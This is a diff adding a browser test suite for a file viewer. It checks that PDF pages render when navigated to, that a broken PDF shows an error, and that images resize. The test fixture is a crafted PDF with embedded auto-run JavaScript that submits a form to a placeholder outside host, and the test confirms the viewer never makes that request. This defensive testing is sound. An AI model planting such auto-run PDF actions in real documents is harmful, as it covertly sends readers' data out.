@@ -1,0 +1,80 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { helvetica, pdf, stream, words } from '../intake/hostile/pdf-file.ts';
+import { hasChromium, openWeb } from './open-web.ts';
+
+/** So many pages with a black square and some words, and a script that wants to fetch something. */
+function pages(count: number): Buffer {
+  const kids = Array.from({ length: count }, (_, index) => 5 + 2 * index);
+  return pdf([
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>',
+    `<< /Type /Pages /Kids [${kids.map((kid) => `${kid} 0 R`).join(' ')}] /Count ${count} >>`,
+    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://elsewhere.test/"\\)) >>',
+    helvetica,
+    ...kids.flatMap((kid, index) => [
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents ${kid + 1} 0 R
+/Resources << /Font << /F1 4 0 R >> >> /AA << /O 3 0 R >> >>`,
+      stream(`0 0 0 rg 50 50 100 100 re f\n${words(`Page ${index + 1}`, 20, 250)}`),
+    ]),
+  ]);
+}
+
+/** How much of the lower half of a page is black, and whether there is anything in the upper half. */
+const dark = `async (place) => {
+  const picture = await createImageBitmap(place);
+  const copy = new OffscreenCanvas(picture.width, picture.height).getContext('2d');
+  copy.drawImage(picture, 0, 0);
+  const { data } = copy.getImageData(0, 0, picture.width, picture.height);
+  const found = [0, 0];
+  for (let at = 0; at < data.length; at += 4)
+    if (data[at] < 50 && data[at + 3] > 200) found[at < data.length / 2 ? 0 : 1] += 1;
+  return { upper: found[0] > 0, lower: Math.round((20 * found[1]) / (data.length / 8)) / 20 };
+}`;
+
+const drawn = { upper: true, lower: 0.35 };
+const blank = { upper: false, lower: 0 };
+
+describe.skipIf(!hasChromium)('a document', () => {
+  it('shows its pages where one looks, beside the notes that lead to it, and does nothing of its own', async () => {
+    const { page, complaints, go } = await openWeb(
+      {
+        'bucket/plan.pdf': pages(40),
+        'bucket/broken.pdf': '%PDF-1.7\nnothing',
+        'bucket/plan.md': '# Plan\n\nSee [the plan](plan.pdf).\n',
+      },
+      { path: '/file/bucket/plan.md' },
+    );
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.getByRole('link', { name: 'the plan' }).click();
+    await page.getByRole('img', { name: 'Page 1 of 40' }).waitFor();
+    const at = (number: number) => () =>
+      page.evaluate(`(${dark})(document.querySelectorAll('main canvas')[${number - 1}])`);
+    await expect.poll(at(1), { timeout: 60_000 }).toEqual(drawn);
+    expect(await at(40)()).toEqual(blank);
+    await page.getByRole('link', { name: 'bucket/plan.md' }).waitFor();
+    await page.getByRole('spinbutton', { name: 'Go to page (of 40)' }).fill('40');
+    await page.keyboard.press('Enter');
+    await expect.poll(at(40), { timeout: 60_000 }).toEqual(drawn);
+    await expect.poll(at(1), { timeout: 60_000 }).toEqual(blank);
+    expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
+
+    await go('/file/bucket/broken.pdf');
+    await page.getByText('This file cannot be shown').waitFor();
+    await page.getByRole('link', { name: 'Download' }).waitFor();
+    expect(complaints).toEqual([]);
+  });
+
+  it('shows a picture as wide as there is room, or in full', async () => {
+    const { page } = await openWeb(
+      { 'bucket/wide.png': readFileSync('docs/images/file-light-1440.png') },
+      { path: '/file/bucket/wide.png' },
+    );
+    const width = async (): Promise<number> =>
+      (await page.getByRole('img', { name: 'wide.png' }).boundingBox())?.width ?? 0;
+    await expect.poll(width).toBeGreaterThan(300);
+    expect(await width()).toBeLessThan(1_100);
+    await page.getByRole('button', { name: 'Full size' }).press('Enter');
+    await expect.poll(width).toBeGreaterThan(1_400);
+  });
+});
